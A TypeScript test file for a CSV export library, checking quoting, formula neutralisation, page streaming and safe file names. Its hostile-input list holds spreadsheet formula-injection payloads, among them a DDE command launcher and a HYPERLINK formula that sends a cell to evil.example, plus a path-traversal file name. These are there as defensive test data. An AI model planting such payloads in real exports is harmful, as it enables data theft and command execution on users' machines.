import { describe, expect, it } from 'vitest';
import { csvExportHref } from '@/lib/csv-exports';
import { csvCell, csvChunks, csvFileName, csvHeaderLine, csvLines, keysetPages, offsetPages, type CsvColumn, type CsvProgress } from './csv-download';

/** RFC 4180, strictly (CRLF records, "" for a quote inside quotes): throws on anything malformed. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          const q = text.indexOf('"', i);
          if (q < 0) throw new Error('unterminated quote');
          field += text.slice(i, q);
          if (text[q + 1] === '"') {
            field += '"';
            i = q + 2;
          } else {
            i = q + 1;
            break;
          }
        }
      } else {
        const end = text.slice(i).search(/[,\r\n"]/);
        const stop = end < 0 ? text.length : i + end;
        if (text[stop] === '"') throw new Error(`bare quote at ${stop}`);
        field = text.slice(i, stop);
        i = stop;
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 5))}`);
    }
    records.push(record);
  }
  return records;
}

const HOSTILE = [
  'plain', 'with,comma', 'with "quotes"', '"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside',
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1',
  ' =leading space', "'already quoted", 'ünïcødé ✓ 日本語 👩‍💻', ',', '',
];

/** What a spreadsheet shows for a neutralised cell: the value, behind a leading ' when it could start a formula. */
const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

interface Row { name: string; n: number | null; at: Date | null; ok: boolean }
const COLUMNS: CsvColumn<Row>[] = [
  { header: 'name', value: (r) => r.name },
  { header: 'n', value: (r) => r.n },
  { header: 'at', value: (r) => r.at },
  { header: 'ok', value: (r) => r.ok },
];

async function collect(chunks: AsyncIterable<Uint8Array>): Promise<{ text: string; count: number }> {
  const dec = new TextDecoder();
  let text = '';
  let count = 0;
  for await (const c of chunks) {
    text += dec.decode(c, { stream: true });
    count++;
  }
  return { text: text + dec.decode(), count };
}

async function* pagesOf<R>(...pages: R[][]): AsyncGenerator<R[]> {
  for (const p of pages) yield p;
}

describe('csvCell', () => {
  it('writes numbers, booleans and times as they are, null and non-finite numbers as empty', () => {
    expect([csvCell(42), csvCell(-1.5), csvCell(0), csvCell(true), csvCell(false), csvCell(12n)]).toEqual(['42', '-1.5', '0', 'true', 'false', '12']);
    expect(csvCell(new Date('2026-01-15T12:00:00Z'))).toBe('2026-01-15T12:00:00.000Z');
    expect([csvCell(null), csvCell(undefined), csvCell(Number.NaN), csvCell(Infinity), csvCell(new Date(Number.NaN))]).toEqual(['', '', '', '', '']);
  });

  it('quotes and neutralises every hostile text so that it reads back as one cell, never a formula', () => {
    for (const v of HOSTILE) {
      const cell = csvCell(v);
      expect(parseCsv(`${cell}\r\n`), JSON.stringify(v)).toEqual([[shown(v)]]);
      expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(csvCell('=cmd')).toBe("'=cmd");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
  });
});

describe('csvLines and csvChunks', () => {
  const rows: Row[] = HOSTILE.map((name, i) => ({ name, n: i % 3 ? i : null, at: i === 2 ? new Date(Date.UTC(2026, 0, 15)) : null, ok: i % 2 === 0 }));

  it('writes one record per row, every record as many fields as the header, CRLF-ended', () => {
    const text = csvHeaderLine(COLUMNS as CsvColumn<never>[]) + csvLines(COLUMNS, rows);
    const parsed = parseCsv(text);
    expect(parsed[0]).toEqual(['name', 'n', 'at', 'ok']);
    expect(parsed.slice(1)).toEqual(rows.map((r) => [shown(r.name), r.n === null ? '' : String(r.n), r.at ? r.at.toISOString() : '', String(r.ok)]));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('streams the header with the first page, then a chunk per page, counting the rows handed out', async () => {
    const progress: CsvProgress = { rows: 0, complete: false };
    const { text, count } = await collect(csvChunks(COLUMNS, pagesOf(rows.slice(0, 5), [], rows.slice(5, 12), rows.slice(12)), progress));
    expect(count).toBe(3);
    expect(parseCsv(text)).toHaveLength(rows.length + 1);
    expect(text.startsWith('name,n,at,ok\r\nplain,')).toBe(true);
    expect(progress).toEqual({ rows: rows.length, complete: true });
  });

  it('is the header alone for no rows', async () => {
    const progress: CsvProgress = { rows: 0, complete: false };
    expect(await collect(csvChunks(COLUMNS, pagesOf<Row>([], []), progress))).toEqual({ text: 'name,n,at,ok\r\n', count: 1 });
    expect(progress).toEqual({ rows: 0, complete: true });
  });

  it('reads a page only when the one before has been taken, and stops reading when the consumer stops', async () => {
    const reads: number[] = [];
    const pages = offsetPages(async (offset, limit) => {
      reads.push(offset);
      return Array.from({ length: limit }, (_, i) => ({ name: `r${offset + i}`, n: offset + i, at: null, ok: true }));
    }, 2);
    const progress: CsvProgress = { rows: 0, complete: false };
    const chunks = csvChunks(COLUMNS, pages, progress);
    const first = await chunks.next();
    expect(new TextDecoder().decode(first.value as Uint8Array)).toBe('name,n,at,ok\r\nr0,0,,true\r\nr1,1,,true\r\n');
    expect(reads).toEqual([0]);
    await chunks.next();
    expect(reads).toEqual([0, 2]);
    await chunks.return(undefined);
    expect(reads).toEqual([0, 2]);
    expect(progress).toEqual({ rows: 4, complete: false });
  });

  it('carries a read that fails to the consumer', async () => {
    const pages = offsetPages<Row>(async (offset) => {
      if (offset > 0) throw new Error('statement timeout');
      return [{ name: 'a', n: 1, at: null, ok: true }];
    }, 1);
    const progress: CsvProgress = { rows: 0, complete: false };
    await expect(collect(csvChunks(COLUMNS, pages, progress))).rejects.toThrow('statement timeout');
    expect(progress).toEqual({ rows: 1, complete: false });
  });
});

describe('paging', () => {
  it('offsetPages reads until a short page (one empty read after an exact multiple)', async () => {
    const data = Array.from({ length: 6 }, (_, i) => i);
    const asked: Array<[number, number]> = [];
    const out: number[][] = [];
    for await (const p of offsetPages(async (o, l) => { asked.push([o, l]); return data.slice(o, o + l); }, 3)) out.push([...p]);
    expect(out).toEqual([[0, 1, 2], [3, 4, 5], []]);
    expect(asked).toEqual([[0, 3], [3, 3], [6, 3]]);
  });

  it('keysetPages passes the key of the last row read, and stops when aborted', async () => {
    const data = [9, 8, 7, 6, 5, 4, 3];
    const after: Array<number | null> = [];
    const out: number[][] = [];
    for await (const p of keysetPages(async (a: number | null, l) => { after.push(a); return data.filter((d) => a === null || d < a).slice(0, l); }, (r) => r, 3)) out.push([...p]);
    expect(out).toEqual([[9, 8, 7], [6, 5, 4], [3]]);
    expect(after).toEqual([null, 7, 4]);

    const ctl = new AbortController();
    const seen: number[][] = [];
    for await (const p of keysetPages(async (a: number | null, l) => data.filter((d) => a === null || d < a).slice(0, l), (r) => r, 2, ctl.signal)) {
      seen.push([...p]);
      ctl.abort();
    }
    expect(seen).toEqual([[9, 8]]);
  });
});

describe('file names and links', () => {
  const now = new Date('2026-01-15T12:34:56.789Z');
  it('names the file after the table and its range, with nothing but [a-z0-9.-]', () => {
    expect(csvFileName('flows', { from: new Date('2026-01-15T11:00:00Z'), to: new Date('2026-01-15T12:00:00Z') }, now)).toBe('meshward-flows-20260115T110000Z-20260115T120000Z.csv');
    expect(csvFileName('audit-log', { from: null, to: null }, now)).toBe('meshward-audit-log-start-20260115T123456Z.csv');
    expect(csvFileName('fleet-proxies', null, now)).toBe('meshward-fleet-proxies-20260115T123456Z.csv');
    expect(csvFileName('../"evil"\r\nx', null, now)).toMatch(/^meshward-[a-z0-9-]+-20260115T123456Z\.csv$/);
  });

  it('links carry the input as tRPC does (superjson), dates included', () => {
    expect(csvExportHref('fleet-tokens')).toBe('/api/export/fleet-tokens');
    const href = csvExportHref('audit-log', { action: 'a&b', from: new Date('2026-01-01T00:00:00Z') });
    const input = JSON.parse(new URL(href, 'http://x').searchParams.get('input')!) as { json: unknown; meta: unknown };
    expect(input.json).toEqual({ action: 'a&b', from: '2026-01-01T00:00:00.000Z' });
    expect(input.meta).toEqual({ values: { from: ['Date'] }, v: 1 });
  });
});
